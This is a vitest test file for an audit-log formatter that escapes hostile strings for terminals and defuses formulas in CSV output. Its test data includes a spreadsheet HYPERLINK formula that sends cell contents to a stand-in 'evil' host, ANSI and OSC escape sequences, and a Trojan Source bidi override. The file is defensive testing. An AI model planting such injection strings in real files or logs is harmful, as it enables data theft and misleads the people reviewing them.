// How records are printed for people and spreadsheets, when the records carry what an attacker put in a URL: no
// terminal escape reaches the reviewer's terminal, no CSV cell runs as a formula, and columns line up.

import { describe, expect, it } from 'vitest';
import { csvHeader, csvLine, humanBytes, TableWriter, tableCells, terminalSafe } from '../../src/audit/format.js';

describe('terminalSafe', () => {
  it.each<[name: string, input: string, expected: string]>([
    ['plain text is untouched', 'GET /v1/models', 'GET /v1/models'],
    ['non-ASCII letters are untouched', '/bücher/😀', '/bücher/😀'],
    ['an ANSI escape (clear screen)', '/x\u001b[2J', '/x\\x1b[2J'],
    ['a carriage return that would overwrite the line', 'evil.test\rgood.test', 'evil.test\\x0dgood.test'],
    ['DEL', 'a\u007fb', 'a\\x7fb'],
    ['a C1 control (8-bit CSI)', 'a\u009bb', 'a\\x9bb'],
    ['a bidi override (Trojan Source)', 'moc.\u202elive', 'moc.\\u{202e}live'],
    ['a bidi isolate', '\u2066x\u2069', '\\u{2066}x\\u{2069}'],
  ])('%s', (_name, input, expected) => {
    expect(terminalSafe(input)).toBe(expected);
  });
});

describe('csvLine', () => {
  it('writes the header and a row in the same column order, numbers as numbers', () => {
    const header = csvHeader().split(',');
    const row = csvLine({
      time: 't',
      seq: 3,
      id: 'a',
      agent: 'research',
      effect: 'deny',
      host: 'x.test',
      port: 80,
      status: 403,
      bytesOut: 12,
      client: { address: '127.0.0.1', port: 5 },
    });
    const cells = row.split(',');
    expect(cells).toHaveLength(header.length);
    const byName = Object.fromEntries(header.map((h, i) => [h, cells[i]]));
    expect(byName).toMatchObject({
      time: 't',
      seq: '3',
      agent: 'research',
      effect: 'deny',
      host: 'x.test',
      port: '80',
      status: '403',
      bytesOut: '12',
      client: '127.0.0.1:5',
      rule: '',
    });
  });

  it.each<[name: string, value: string, cell: string]>([
    ['a comma is quoted', 'a,b', '"a,b"'],
    ['a quote is doubled', 'say "hi"', '"say ""hi"""'],
    ['a newline is quoted', 'a\nb', '"a\nb"'],
    ['=formula is defused', '=HYPERLINK("http://evil/?"&A1)', `"'=HYPERLINK(""http://evil/?""&A1)"`],
    ['+formula is defused', '+1+1', "'+1+1"],
    ['-formula is defused', '-2+3', "'-2+3"],
    ['@formula is defused', '@SUM(A1)', "'@SUM(A1)"],
    ['a leading tab is defused', '\t=1', "'\t=1"],
  ])('%s', (_name, value, cell) => {
    const header = csvHeader().split(',');
    const line = csvLine({ userAgent: value });
    // userAgent is the only non-empty cell; everything before it is an empty cell.
    expect(line).toBe(
      `${','.repeat(header.indexOf('userAgent'))}${cell}${','.repeat(header.length - header.indexOf('userAgent') - 1)}`,
    );
  });
});

describe('table', () => {
  it('aligns columns on the widest of the first rows and prints a header', () => {
    const lines: string[] = [];
    const table = new TableWriter((line) => lines.push(line));
    table.row(
      tableCells({
        time: '2026-11-22T00:00:00.000Z',
        agent: 'a',
        effect: 'allow',
        method: 'GET',
        host: 'short.test',
        port: 80,
        path: '/',
        rule: 'r',
        reason: 'allowed_by_rule',
        status: 200,
        bytesOut: 10,
        bytesIn: 2048,
      }),
    );
    table.row(
      tableCells({
        time: '2026-11-22T00:00:01.000Z',
        agent: 'research',
        effect: 'deny',
        wouldDeny: false,
        event: 'tunnel',
        method: 'CONNECT',
        host: 'a-much-longer-host.example.test',
        port: 8443,
        path: null,
        rule: null,
        reason: 'no_rule',
        status: 403,
      }),
    );
    table.release();
    expect(lines).toHaveLength(3);
    expect(lines[0]).toMatch(/^TIME\s+AGENT\s+EFFECT\s+METHOD\s+HOST\s+PATH\s+RULE\s+REASON\s+STATUS\s+OUT\/IN$/);
    const hostAt = (lines[0] as string).indexOf('HOST');
    expect((lines[1] as string).indexOf('short.test')).toBe(hostAt);
    expect((lines[2] as string).indexOf('a-much-longer-host.example.test:8443')).toBe(hostAt);
    expect(lines[1]).toContain('10/2.0K');
    expect(lines[2]).toContain('(tunnel)');
  });

  it('marks report-mode records that would have been denied with *', () => {
    expect(tableCells({ effect: 'allow', wouldDeny: true })[2]).toBe('allow*');
  });

  it('shows hostile strings escaped and cuts long paths', () => {
    const cells = tableCells({ host: 'evil.test\u001b]0;pwned\u0007', path: `/${'a'.repeat(100)}` });
    expect(cells[4]).toBe('evil.test\\x1b]0;pwned\\x07');
    expect(cells[5]).toHaveLength(48);
    expect(cells[5]?.endsWith('…')).toBe(true);
  });

  it.each<[bytes: unknown, text: string]>([
    [0, '0'],
    [1023, '1023'],
    [1024, '1.0K'],
    [1536, '1.5K'],
    [10 * 1024 * 1024, '10M'],
    [undefined, '0'],
    ['12', '0'],
  ])('humanBytes(%j) = %s', (bytes, text) => {
    expect(humanBytes(bytes)).toBe(text);
  });
});
